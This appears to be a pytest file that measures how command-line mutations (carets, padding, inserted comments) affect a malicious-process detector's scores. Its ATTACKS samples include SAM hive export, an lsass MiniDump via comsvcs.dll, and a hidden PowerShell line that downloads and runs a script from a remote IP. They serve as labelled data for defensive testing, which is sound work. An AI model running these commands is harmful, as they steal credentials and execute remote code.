"""The measurement adds up, on the shipped bundle and events of no corpus; how good the bundle is, is no matter here."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from connector.learn.corpora.wrap import seeded
from connector.learn.evasion.events import line_of, mutated
from connector.learn.evasion.families import FAMILIES, MUTATIONS
from connector.learn.evasion.measure import Case, Report, apart, exceeded_by, measure
from connector.models import Bundle, Store
from connector.resources import shipped
from tests.models.events import process_start
from tests.models.whole import whole_store

ATTACKS = (
    'cmd.exe /c "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.dmp & whoami /all"',
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\lsass.dmp full",
)
ORDINARY = ("cmd.exe /c dir C:\\Users\\Public\\Documents", "schtasks /query /fo list /v")


@pytest.fixture(scope="module")
def bundle() -> Iterator[Bundle]:
    opened = Store(shipped("model_store")).open(threads=1)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def report(bundle: Bundle) -> Report:
    cases = [Case(source="atomic", malicious=True, event=process_start(line)) for line in ATTACKS]
    cases += [Case(source="tldr", malicious=False, event=process_start(line)) for line in ORDINARY]
    return measure(bundle, cases, level="suspicious")


def test_a_mutated_event_shows_the_mutated_command_and_is_otherwise_the_same() -> None:
    event = process_start(ATTACKS[0])
    mutation = next(one for one in MUTATIONS if one.name == "comment-before")
    other = mutated(event, mutation, seeded("x"))
    line, written = line_of(event), other and line_of(other)
    assert line
    assert other
    assert written
    assert written.body == mutation.apply(line, seeded("x")).body
    assert other.fingerprint != event.fingerprint
    assert {k: v for k, v in other.ecs.items() if k not in {"process", "winlog"}} == {
        k: v for k, v in event.ecs.items() if k not in {"process", "winlog"}
    }


def test_an_event_that_training_holds_too_or_nearly_is_not_left_out() -> None:
    line = "tool.exe copy every file of the first folder to the second folder and then show what was copied by {}"
    learnt, near, other = (process_start(text) for text in (line.format("one"), line.format("two"), ATTACKS[0]))
    cases = [Case(source="atomic", malicious=True, event=event) for event in (learnt, near, other)]

    assert near.fingerprint != learnt.fingerprint
    assert apart(cases, {learnt.fingerprint: learnt}) == cases[2:]
    assert apart(cases, {}) == cases


def test_families_add_up_their_mutations(report: Report) -> None:
    assert [row.family for row in report.families] == list(FAMILIES)
    for family in report.families:
        parts = [row for row in report.mutations if row.family == family.family]
        for name in ("events", "changed", "before", "after"):
            assert getattr(family.attacks, name) == sum(getattr(row.attacks, name) for row in parts)
            assert getattr(family.ordinary, name) == sum(getattr(row.ordinary, name) for row in parts)


def test_what_render_undoes_changes_no_score(report: Report) -> None:
    carets = next(row for row in report.families if row.family == "carets")
    assert carets.attacks.events > 0
    assert (carets.attacks.changed, carets.attacks.before) == (0, carets.attacks.after)


def test_what_render_cannot_undo_is_counted_as_changed(report: Report) -> None:
    padding = next(row for row in report.families if row.family == "padding")
    assert padding.attacks.changed == padding.attacks.events > 0
    assert padding.ordinary.changed == padding.ordinary.events > 0


def test_of_several_members_an_event_that_reads_as_another_is_scored_by_itself(tmp_path: Path) -> None:
    several = Store(whole_store(tmp_path)).open(threads=1)
    line = 'cmd.exe /c "powershell -enc aaaabbbbcccc"'
    told = measure(several, [Case(source="atomic", malicious=True, event=process_start(line))], level="suspicious")
    several.close()
    carets = next(row for row in told.families if row.family == "carets").attacks
    assert (carets.changed, carets.before) == (0, carets.events)
    assert carets.after < carets.before, "a rule reads the carets that the text does not tell"


def test_clean_shares_are_those_of_the_clean_events(report: Report) -> None:
    assert {name: tally.events for name, tally in report.clean.items()} == {"atomic": 3, "tldr": 2}
    assert report.recall == report.clean["atomic"].before / 3
    assert report.alarms == report.clean["tldr"].before / 2


def test_a_threshold_by_share_lets_no_more_than_that_share_reach_it() -> None:
    scores = [0.1, 0.2, 0.2, 0.9]
    for share, wanted in ((0.0, 0), (0.25, 1), (0.5, 1), (0.75, 3)):
        assert sum(score >= exceeded_by(share, scores) for score in scores) == wanted
